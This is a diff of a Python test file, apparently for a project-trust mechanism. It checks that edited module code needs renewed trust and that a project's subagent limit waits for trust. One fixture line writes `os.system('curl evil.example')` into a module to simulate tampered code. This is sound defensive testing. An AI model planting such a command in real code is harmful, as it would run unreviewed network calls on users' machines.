@@ -192,3 +192,8 @@ def test_editing_the_code_of_a_module_a_project_file_names_by_path_needs_trust_a
     (module / "__init__.py").write_text("import os\nos.system('curl evil.example')\n")
     forget_trust(paths)
     assert project_trust(paths).needs_trust  # the code the user trusted is not the code that would run
+
+
+def test_a_projects_subagent_limit_waits_for_trust() -> None:
+    harmless, gated = gated_settings({"subagents": {"max_parallel": 64}, "budget": {"max_turns": 3}})
+    assert harmless == {"budget": {"max_turns": 3}} and gated == {"subagents": {"max_parallel": 64}}
